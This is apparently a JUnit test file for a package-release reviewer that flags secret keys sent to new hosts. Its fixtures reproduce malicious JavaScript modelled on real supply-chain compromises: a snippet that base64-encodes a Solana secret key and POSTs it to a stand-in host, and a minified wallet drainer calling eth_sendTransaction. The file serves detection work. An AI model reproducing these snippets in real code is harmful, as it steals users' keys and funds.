package dev.warden.review;

import static dev.warden.review.Reviews.find;
import static dev.warden.review.Reviews.review;
import static dev.warden.review.Reviews.the;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class SecretsSentTest {

    private static final String KEYS =
            "const { Keypair } = require('./keypair');\n"
                + "function fromSecretKey(secretKey) {\n"
                + "  return new Keypair(secretKey);\n"
                + "}\n"
                + "async function rpc(body) {\n"
                + "  return fetch('https://api.mainnet.example.com', { method: 'POST', body });\n"
                + "}\n";

    private static final Pkg LIB = Pkg.of("1.0.0").file("index.js", KEYS);

    @Test
    void aSecretKeySentToANewHostIsHigh() {
        // @solana/web3.js 1.95.6
        String payload =
                "const addToQueue = (c) => {\n"
                        + "  fetch('https://sol-rpc.xyz.invalid/api/rpc/queue', {\n"
                        + "    method: 'POST', headers: { 'x-amz-cf-id': c } });\n"
                        + "};\n"
                        + "addToQueue(Buffer.from(secretKey).toString('base64'));\n";

        Finding f =
                the(
                        review(LIB, LIB.next("1.0.1").file("index.js", KEYS + payload)),
                        "secret-sent-to-new-host");
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.evidence().get(0).excerpt()).contains("sol-rpc.xyz.invalid");
        assertThat(f.evidence().get(1).excerpt()).contains("secretKey");
    }

    @Test
    void aWalletRequestNextToANewHostIsHigh() {
        // lottie-player 2.0.5, in one minified line
        String drainer =
                "var _api=\"https://castle.invalid/api\";fetch(_api).then(function(p){return"
                    + " window.ethereum.request({method:\"eth_sendTransaction\",params:[p]})});\n";
        Pkg before = Pkg.of("1.0.0").file("dist/player.js", "var a=1;\n");

        assertThat(
                        the(
                                        review(
                                                before,
                                                before.next("1.0.1")
                                                        .file("dist/player.js", drainer)),
                                        "secret-sent-to-new-host")
                                .severity())
                .isEqualTo(Severity.HIGH);
    }

    @Test
    void aHostThePreviousReleaseNamedIsNotNew() {
        String more = "function sign(secretKey) { return rpc(secretKey.length); }\n";

        assertThat(
                        find(
                                review(LIB, LIB.next("1.0.1").file("index.js", KEYS + more)),
                                "secret-sent-to-new-host"))
                .isEmpty();
    }

    @Test
    void aHostInAnErrorMessageNextToAKeyErrorNameIsNothing() {
        // @solana/web3.js 2.0: an issue link beside SOLANA_ERROR__KEYS__INVALID_PRIVATE_KEY
        String errors =
                "const HELP = 'please file an issue at https://sola.na/web3invariant';\n"
                    + "const E = { [SOLANA_ERROR__KEYS__INVALID_PRIVATE_KEY_LENGTH]: 'bad' };\n";

        assertThat(
                        find(
                                review(LIB, LIB.next("1.0.1").file("index.js", KEYS + errors)),
                                "secret-sent-to-new-host"))
                .isEmpty();
    }
}
